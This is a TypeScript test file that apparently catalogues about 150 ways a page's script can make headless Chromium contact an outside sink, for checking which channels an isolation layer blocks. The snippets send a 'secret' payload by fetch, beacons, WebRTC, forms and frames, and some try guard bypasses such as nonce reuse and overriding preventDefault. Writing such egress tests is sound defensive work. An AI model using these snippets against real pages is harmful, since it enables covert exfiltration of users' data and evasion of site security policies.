/**
 * Ways in which a page's own script can make the browser talk to somebody. In each snippet `U` is the sink's HTTP address (with a
 * trailing slash), `H` its host and port, `put(html)` inserts markup, `make(tag, attributes)` a connected element.
 * `silent: true`: headless Chromium does not use the channel even where nothing forbids it, so there is no positive control.
 */
export interface Channel {
  readonly name: string;
  readonly run: string;
  readonly silent?: true;
}

const css = (
  rule: string,
) => `var s = document.createElement("style"); s.textContent = ${JSON.stringify(rule)}.replaceAll("$U", U); document.head.append(s);
  put('<div class="x" style="width:20px;height:20px">x</div><ul><li class="y">y</li></ul>');`;
const silent = true as const;

export const channels: readonly Channel[] = [
  // The fetch family.
  { name: "fetch", run: `fetch(U)` },
  { name: "fetch, no-cors", run: `fetch(U, { mode: "no-cors" })` },
  { name: "fetch, keepalive POST", run: `fetch(U, { method: "POST", body: "secret", keepalive: true, mode: "no-cors" })` },
  { name: "XMLHttpRequest", run: `var x = new XMLHttpRequest(); x.open("GET", U); x.send()` },
  { name: "synchronous XMLHttpRequest", run: `var x = new XMLHttpRequest(); x.open("GET", U, false); x.send()` },
  { name: "sendBeacon", run: `navigator.sendBeacon(U, "secret")` },
  { name: "EventSource", run: `new EventSource(U)` },
  { name: "WebSocket", run: `new WebSocket(U.replace("http", "ws"))` },
  { name: "WebSocketStream", run: `new WebSocketStream(U.replace("http", "ws")).opened`, silent },
  { name: "WebTransport", run: `new WebTransport("https://" + H + "/").ready`, silent },
  { name: "fetchLater", run: `fetchLater(U, { activateAfter: 0 })`, silent },
  { name: "link ping", run: `make("a", { href: "#x", ping: U }).click()` },
  {
    name: "area ping",
    run: `put('<map name=m><area href="#x" ping="' + U + '" shape=default></map>'); document.querySelector("area").click()`,
  },
  { name: "Cache.add", run: `caches.open("x").then(function (c) { return c.add(U) })`, silent },
  { name: "navigator.serviceWorker", run: `navigator.serviceWorker.register(U + "sw.js")`, silent },
  // Images.
  { name: "img", run: `make("img", { src: U })` },
  { name: "new Image", run: `new Image().src = U` },
  { name: "img srcset", run: `make("img", { srcset: U + " 1x" })` },
  { name: "picture", run: `put('<picture><source srcset="' + U + '"><img></picture>')` },
  { name: "img by innerHTML", run: `put('<img src="' + U + '">')` },
  {
    name: "img in a detached document",
    run: `new DOMParser().parseFromString("<img src='" + U + "'>", "text/html").body.firstChild.cloneNode() && document.adoptNode(document.implementation.createHTMLDocument("").createElement("img")).setAttribute("src", U)`,
  },
  { name: "svg image", run: `put('<svg width=9 height=9><image href="' + U + '" width=9 height=9 /></svg>')` },
  { name: "svg image, xlink", run: `put('<svg width=9 height=9><image xlink:href="' + U + '" width=9 height=9 /></svg>')` },
  { name: "svg use", run: `put('<svg width=9 height=9><use href="' + U + '#a" /></svg>')`, silent },
  {
    name: "svg feImage",
    run: `put('<svg width=9 height=9><filter id=f><feImage href="' + U + '" /></filter><rect width=9 height=9 filter="url(#f)" /></svg>')`,
  },
  {
    name: "svg animated href",
    run: `put('<svg width=9 height=9><image width=9 height=9><set attributeName="href" to="' + U + '" /></image></svg>')`,
  },
  { name: "input image", run: `make("input", { type: "image", src: U })` },
  { name: "body background", run: `document.body.setAttribute("background", U)` },
  { name: "table background", run: `put('<table background="' + U + '"><td>x</table>')` },
  { name: "video poster", run: `make("video", { poster: U })` },
  { name: "favicon", run: `make("link", { rel: "icon", href: U })`, silent },
  // Style sheets.
  { name: "CSS background", run: css(".x{background:url($U)}") },
  { name: "CSS import", run: css("@import url($U);") },
  { name: "CSS cursor", run: css(".x{cursor:url($U),auto}"), silent },
  { name: "CSS filter", run: css(".x{filter:url($U#f)}"), silent },
  { name: "CSS mask", run: css(".x{mask-image:url($U)}") },
  { name: "CSS clip path", run: css(".x{clip-path:url($U#c)}") },
  { name: "CSS list image", run: css(".y{list-style-image:url($U)}") },
  { name: "CSS border image", run: css(".x{border:9px solid;border-image:url($U) 1}") },
  { name: "CSS content", run: css(".x::before{content:url($U)}") },
  { name: "CSS image-set", run: css('.x{background:image-set("$U" 1x)}') },
  { name: "CSS shape-outside", run: css(".x{float:left;shape-outside:url($U)}") },
  { name: "CSS attribute selector", run: css('html:not([q]){background:url("$U?en")}') },
  { name: "CSS font", run: css("@font-face{font-family:q;src:url($U)}.x{font-family:q}") },
  {
    name: "adopted style sheet",
    run: `var s = new CSSStyleSheet(); s.replaceSync("html{background:url(" + U + ")}"); document.adoptedStyleSheets = [s]`,
  },
  { name: "style attribute", run: `put('<i style="background:url(' + U + ')">x</i>')` },
  { name: "FontFace", run: `new FontFace("q", "url(" + U + ")").load()` },
  // Media and plugins.
  { name: "video", run: `make("video", { src: U, preload: "auto" })` },
  { name: "audio", run: `new Audio(U).load()` },
  {
    name: "track",
    run: `put('<video src="data:video/mp4,"><track default kind=captions src="' + U + '"></video>'); document.querySelector("track").track.mode = "showing"`,
    silent,
  },
  { name: "object", run: `make("object", { data: U })` },
  { name: "embed", run: `make("embed", { src: U })` },
  {
    name: "media session artwork",
    run: `navigator.mediaSession.metadata = new MediaMetadata({ title: "x", artwork: [{ src: U }] })`,
    silent,
  },
  // Scripts and workers.
  { name: "script", run: `make("script", { src: U })` },
  { name: "module script", run: `make("script", { src: U, type: "module" })` },
  { name: "script with the nonce of the first", run: `make("script", { src: U, nonce: (document.scripts[0] || {}).nonce || "" })` },
  {
    name: "script with integrity",
    run: `make("script", { src: U, crossorigin: "", integrity: "sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=" })`,
  },
  { name: "script on our own path with a redirect", run: `make("script", { src: (document.scripts[0] || {}).src + "?to=" + U })`, silent },
  {
    name: "svg script",
    run: `var s = document.createElementNS("http://www.w3.org/2000/svg", "script"); s.setAttribute("href", U); put("<svg></svg>"); document.querySelector("svg").append(s)`,
  },
  { name: "dynamic import", run: `import(U)` },
  { name: "import map", run: `make("script", { type: "importmap" }).textContent = '{"imports":{"x":"' + U + '"}}'; import("x")`, silent },
  { name: "worker from a blob", run: `new Worker(URL.createObjectURL(new Blob(["fetch('" + U + "',{mode:'no-cors'})"])))` },
  {
    name: "worker from a data address",
    run: `new Worker("data:text/javascript," + encodeURIComponent("fetch('" + U + "',{mode:'no-cors'})"))`,
  },
  { name: "worker, importScripts", run: `new Worker(URL.createObjectURL(new Blob(["importScripts('" + U + "')"])))` },
  {
    name: "shared worker",
    run: `new SharedWorker("data:text/javascript," + encodeURIComponent("fetch('" + U + "',{mode:'no-cors'})"))`,
    silent,
  },
  { name: "audio worklet", run: `new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(U)` },
  { name: "paint worklet", run: `CSS.paintWorklet.addModule(U)` },
  { name: "eval", run: `(0, eval)("fetch('" + U + "', { mode: 'no-cors' })")` },
  { name: "new Function", run: `new Function("fetch('" + U + "', { mode: 'no-cors' })")()` },
  { name: "timer with text", run: `setTimeout("fetch('" + U + "', { mode: 'no-cors' })")` },
  { name: "inline event handler", run: `put('<img src="data:," onerror="fetch(\\'' + U + '\\', { mode: \\'no-cors\\' })">')` },
  // Links.
  { name: "stylesheet", run: `make("link", { rel: "stylesheet", href: U })` },
  { name: "alternate stylesheet", run: `make("link", { rel: "alternate stylesheet", title: "x", href: U })` },
  { name: "preload as image", run: `make("link", { rel: "preload", as: "image", href: U })` },
  { name: "preload as script", run: `make("link", { rel: "preload", as: "script", href: U })` },
  { name: "preload as fetch", run: `make("link", { rel: "preload", as: "fetch", crossorigin: "", href: U })` },
  { name: "preload as font", run: `make("link", { rel: "preload", as: "font", crossorigin: "", href: U })` },
  { name: "preload by imagesrcset", run: `make("link", { rel: "preload", as: "image", imagesrcset: U + " 1x" })` },
  { name: "modulepreload", run: `make("link", { rel: "modulepreload", href: U })` },
  { name: "prefetch", run: `make("link", { rel: "prefetch", href: U })` },
  { name: "prerender", run: `make("link", { rel: "prerender", href: U })`, silent },
  { name: "preconnect", run: `make("link", { rel: "preconnect", href: U })` },
  { name: "preconnect, crossorigin", run: `make("link", { rel: "preconnect", crossorigin: "", href: U })` },
  { name: "preconnect by innerHTML", run: `put('<link rel=preconnect href="' + U + '">')` },
  { name: "dns-prefetch", run: `make("link", { rel: "dns-prefetch", href: U })`, silent },
  { name: "web app manifest", run: `make("link", { rel: "manifest", href: U })`, silent },
  { name: "compression dictionary", run: `make("link", { rel: "compression-dictionary", href: U })`, silent },
  {
    name: "speculation rules, prefetch",
    run: `make("script", { type: "speculationrules" }).textContent = JSON.stringify({ prefetch: [{ urls: [U], eagerness: "immediate" }] })`,
    silent,
  },
  {
    name: "speculation rules, prerender",
    run: `make("script", { type: "speculationrules" }).textContent = JSON.stringify({ prerender: [{ urls: [U], eagerness: "immediate" }] })`,
    silent,
  },
  {
    name: "CSP report by meta",
    run: `make("meta", { "http-equiv": "Content-Security-Policy", content: "img-src 'none'; report-uri " + U }); make("img", { src: "data:," })`,
    silent,
  },
  {
    name: "XSLT",
    run: `var p = new XSLTProcessor(); p.importStylesheet(new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:include href="' + U + '"/></xsl:stylesheet>', "text/xml"))`,
    silent,
  },
  {
    name: "external entity",
    run: `new DOMParser().parseFromString('<!DOCTYPE x [<!ENTITY e SYSTEM "' + U + '">]><x>&e;</x>', "text/xml")`,
    silent,
  },
  // Navigations of the frame itself.
  { name: "location.href", run: `location.href = U` },
  { name: "location.assign", run: `location.assign(U)` },
  { name: "location.replace", run: `location.replace(U)` },
  { name: "link click", run: `make("a", { href: U }).click()` },
  { name: "link click, synthetic event", run: `make("a", { href: U }).dispatchEvent(new MouseEvent("click", { bubbles: true }))` },
  {
    name: "svg link click",
    run: `put('<svg><a href="' + U + '"><text>x</text></a></svg>'); document.querySelector("svg a").dispatchEvent(new MouseEvent("click", { bubbles: true }))`,
  },
  { name: "download click", run: `make("a", { href: U, download: "x" }).click()` },
  { name: "area click", run: `put('<map name=m><area href="' + U + '" shape=default></map>'); document.querySelector("area").click()` },
  { name: "meta refresh", run: `make("meta", { "http-equiv": "refresh", content: "0;url=" + U })` },
  { name: "open in itself", run: `window.open(U, "_self")` },
  { name: "navigation.navigate", run: `navigation.navigate(U)` },
  {
    name: "base and relative link",
    run: `document.head.prepend(Object.assign(document.createElement("base"), { href: U })); make("a", { href: "x" }).click()`,
  },
  { name: "data document", run: `location.href = "data:text/html,<img src='" + U + "'>"` },
  { name: "blob document", run: `location.href = URL.createObjectURL(new Blob(["<img src='" + U + "'>"], { type: "text/html" }))`, silent },
  { name: "javascript address", run: `location.href = "javascript:'<img src=" + U + ">'"`, silent },
  { name: "document.write", run: `document.open(); document.write("<img src='" + U + "'>"); document.close()` },
  {
    name: "document.write, meta refresh",
    run: `document.open(); document.write("<meta http-equiv=refresh content='0;url=" + U + "'>"); document.close()`,
  },
  {
    name: "guard stopped at the event",
    run: `navigation.addEventListener("navigate", function (e) { e.stopImmediatePropagation() }, true); location.href = U`,
  },
  { name: "guard overwritten", run: `Event.prototype.preventDefault = function () {}; location.href = U` },
  // Other windows.
  { name: "popup", run: `window.open(U)`, silent },
  { name: "popup without opener", run: `window.open(U, "_blank", "noopener")`, silent },
  { name: "link to a new tab", run: `make("a", { href: U, target: "_blank" }).click()`, silent },
  { name: "top navigation", run: `top.location = U`, silent },
  { name: "parent navigation", run: `parent.location.replace(U)`, silent },
  { name: "open in top", run: `window.open(U, "_top")`, silent },
  {
    name: "sibling navigation",
    run: `for (var i = 0; i < parent.length; i++) if (parent[i] !== window) try { parent[i].location = U } catch (e) {}`,
    silent,
  },
  // Forms.
  {
    name: "form GET",
    run: `var f = make("form", { action: U }); f.append(Object.assign(document.createElement("input"), { name: "a", value: "secret" })); HTMLFormElement.prototype.submit.call(f)`,
  },
  { name: "form POST", run: `make("form", { action: U, method: "post" }).submit()` },
  { name: "form, requestSubmit", run: `make("form", { action: U }).requestSubmit()` },
  {
    name: "form, button with formaction",
    run: `var f = make("form", {}); var b = document.createElement("button"); b.formAction = U; f.append(b); b.click()`,
  },
  { name: "form to a nested frame", run: `put('<iframe name=n></iframe>'); make("form", { action: U, target: "n" }).submit()` },
  // Nested frames.
  { name: "iframe", run: `make("iframe", { src: U })` },
  { name: "iframe, later location", run: `make("iframe", {}).contentWindow.location = U` },
  { name: "iframe, named target", run: `put("<iframe name=n></iframe>"); make("a", { href: U, target: "n" }).click()` },
  { name: "srcdoc with an image", run: `make("iframe", { srcdoc: "<img src='" + U + "'>" })` },
  { name: "srcdoc with a refresh", run: `make("iframe", { srcdoc: "<meta http-equiv=refresh content='0;url=" + U + "'>" })` },
  { name: "srcdoc with a script", run: `make("iframe", { srcdoc: "<script>fetch('" + U + "',{mode:'no-cors'})<\\/script>" })` },
  { name: "srcdoc with preconnect", run: `make("iframe", { srcdoc: "<link rel=preconnect href='" + U + "'>" })` },
  { name: "iframe with a data document", run: `make("iframe", { src: "data:text/html,<img src='" + U + "'>" })` },
  {
    name: "iframe with a blob document",
    run: `make("iframe", { src: URL.createObjectURL(new Blob(["<img src='" + U + "'>"], { type: "text/html" })) })`,
  },
  { name: "iframe with a javascript address", run: `make("iframe", { src: "javascript:'<img src=" + U + ">'" })` },
  { name: "fenced frame", run: `make("fencedframe", {}).config = new FencedFrameConfig(U)`, silent },
  {
    name: "iframe, own sandbox",
    run: `make("iframe", { sandbox: "allow-scripts allow-forms allow-popups allow-top-navigation", src: U })`,
  },
  // WebRTC.
  { name: "WebRTC, STUN", run: rtc("window") },
  { name: "WebRTC, TURN", run: rtc("window", true) },
  { name: "WebRTC, old name", run: `var w = { RTCPeerConnection: window.webkitRTCPeerConnection }; ${rtc("w")}` },
  {
    name: "WebRTC in a nested srcdoc",
    run: `make("iframe", { srcdoc: "<script>var H='" + H + "';${rtc("window").replaceAll('"', "\\x22")}<\\/script>" })`,
  },
  {
    name: "WebRTC in a javascript frame",
    run: `make("iframe", { src: "javascript:var H='" + H + "';${rtc("window").replaceAll('"', "\\x22")};1" })`,
    silent,
  },
  { name: "WebRTC of an about:blank frame", run: `var w = make("iframe", {}).contentWindow; ${rtc("w")}`, silent },
  {
    name: "WebRTC in the bundle loaded again",
    run: `make("iframe", { srcdoc: "<script src='" + (document.scripts[0] || {}).src + "' crossorigin><\\/script>" }); make("script", { src: (document.scripts[0] || {}).src, crossorigin: "" }); ${rtc("window")}`,
    silent,
  },
  // The rest.
  { name: "notification icon", run: `new Notification("x", { icon: U })`, silent },
  {
    name: "payment manifest",
    run: `new PaymentRequest([{ supportedMethods: U }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment()`,
    silent,
  },
  { name: "presentation", run: `new PresentationRequest(U).start()`, silent },
  { name: "attribution source", run: `make("img", { attributionsrc: U, src: "data:," })`, silent },
  { name: "federated sign-in", run: `navigator.credentials.get({ identity: { providers: [{ configURL: U, clientId: "x" }] } })`, silent },
  { name: "shared storage", run: `sharedStorage.worklet.addModule(U)`, silent },
];

function rtc(owner: string, turn = false): string {
  const server = turn ? `{ urls: "turn:" + H + "?transport=tcp", username: "secret", credential: "x" }` : `{ urls: "stun:" + H }`;
  return `var p = new ${owner}.RTCPeerConnection({ iceServers: [${server}] }); p.createDataChannel("x"); p.createOffer().then(function (o) { return p.setLocalDescription(o) })`;
}

/** The snippet as a script that an exception cannot stop from counting as run. */
export function bundleOf({ run }: Channel, sink: { url: string; host: string }): string {
  return `
var U = ${JSON.stringify(sink.url)}, H = ${JSON.stringify(sink.host)};
function put(html) { var box = document.createElement("div"); box.innerHTML = html; document.body.append(box); return box; }
function make(tag, attributes) { var made = document.createElement(tag); for (var name in attributes) made.setAttribute(name, attributes[name]); document.body.append(made); return made; }
try { var done = (function () { ${run} })(); } catch (error) { document.title = String(error); }
`;
}
